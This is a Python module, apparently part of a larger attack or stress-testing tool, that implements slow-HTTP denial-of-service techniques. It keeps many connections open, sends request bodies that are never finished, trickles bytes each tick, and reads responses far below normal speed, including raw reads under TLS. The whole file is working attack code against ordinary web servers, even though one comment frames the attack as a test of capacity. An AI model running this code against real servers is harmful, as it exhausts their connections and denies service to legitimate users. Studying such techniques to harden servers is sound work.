# Many connections, each with an unfinished request or response. One thread serves all of them without a busy loop: once a second, each
# connection sends or reads a little.
import os, select, socket, time
from wire import Client

TICK = 1.0
# Closed or refused connections are reopened, but at most this many per tick: the attack tests full use, not a flood of handshakes.
REOPENED = 20


class Crowd:
    """Keeps `count` connections open, each created by `open_one(number)`. Calls `feed(slot)` once per tick for each. `called` is the name
    of their number in the attack's counts."""

    def __init__(self, attack, count, open_one, feed=None, listens=True, called="held"):
        self.attack, self.open_one, self.feed, self.listens, self.called = attack, open_one, feed, listens, called
        self.slots = [None] * count

    def fill(self, most):
        for number, slot in enumerate(self.slots):
            if slot or most == 0 or self.attack.is_over:
                continue
            most -= 1
            try:
                self.slots[number] = self.open_one(number)
                self.attack.count("opened")
            except OSError as error:
                self.attack.count(type(error).__name__)

    def open_ones(self):
        return sum(1 for slot in self.slots if slot)

    def run(self):
        self.fill(len(self.slots))
        self.attack.ready()
        while not self.attack.is_over:
            began = time.monotonic()
            self.look()
            if self.feed:
                for number, slot in enumerate(self.slots):
                    if slot:
                        try:
                            self.feed(slot)
                        except (BlockingIOError, InterruptedError):
                            pass
                        except OSError:
                            self.drop(number, "ended")
            self.fill(REOPENED)
            self.attack.note(self.called, self.open_ones())
            self.attack.wait(max(0.05, TICK - (time.monotonic() - began)))

    def drop(self, number, why):
        self.attack.count(why)
        self.slots[number].close()
        self.slots[number] = None

    def look(self):
        """Detects connections that got a response or were closed."""
        numbers = {}
        poll = select.poll()
        for number, slot in enumerate(self.slots):
            if slot:
                numbers[slot.fileno()] = number
                poll.register(slot.fileno(), select.POLLRDHUP | (select.POLLIN if self.listens else 0))
        for descriptor, events in poll.poll(0):
            number = numbers[descriptor]
            slot = self.slots[number]
            if events & (select.POLLERR | select.POLLHUP | select.POLLNVAL) or (events & select.POLLRDHUP and not self.listens):
                self.drop(number, "ended")
                continue
            try:
                slot.settimeout(0)
                answer = slot.recv(4096)
                self.drop(number, answer[9:12].decode("latin-1") if answer else "ended")
            except (BlockingIOError, InterruptedError):
                pass
            except OSError as error:
                # A TLS message, such as a session ticket, arrived instead of data.
                if "WantRead" not in type(error).__name__:
                    self.drop(number, "ended")


def half_sent(attack, head, first, more):
    """A request whose body stops after `first`; `more` bytes follow each tick."""

    def open_one(number):
        connection = attack.connect(number, timeout=5)
        connection.sendall(head(number))
        if first:
            connection.settimeout(3)
            view, sent = memoryview(first), 0
            try:
                while sent < len(first):
                    sent += connection.send(view[sent : sent + 65536])
            except TimeoutError:
                # The server does not read: it already buffers as much as it accepts.
                pass
        connection.settimeout(0)
        return connection

    def feed(connection):
        connection.settimeout(0)
        try:
            connection.send(more)
        except OSError as error:
            if "Want" not in type(error).__name__:
                raise

    return open_one, (feed if more else None)


def unread(attack, head):
    """Requests a response and reads only its beginning."""

    def open_one(number):
        connection = attack.connect(number, timeout=10, receive_buffer=4096)
        connection.sendall(head(number))
        connection.settimeout(2)
        try:
            status = connection.recv(64)[9:12].decode("latin-1")
        except TimeoutError:
            status = "silent"
        if status not in ("200", "silent"):
            attack.count(status)
            connection.close()
            raise ConnectionRefusedError(status)
        return connection

    return open_one


def sip(byte_count):
    """Reads some bytes below TLS each tick, without decrypting them."""

    def feed(connection):
        with socket.socket(fileno=os.dup(connection.fileno())) as raw:
            raw.setblocking(False)
            if not raw.recv(byte_count):
                raise ConnectionError

    return feed
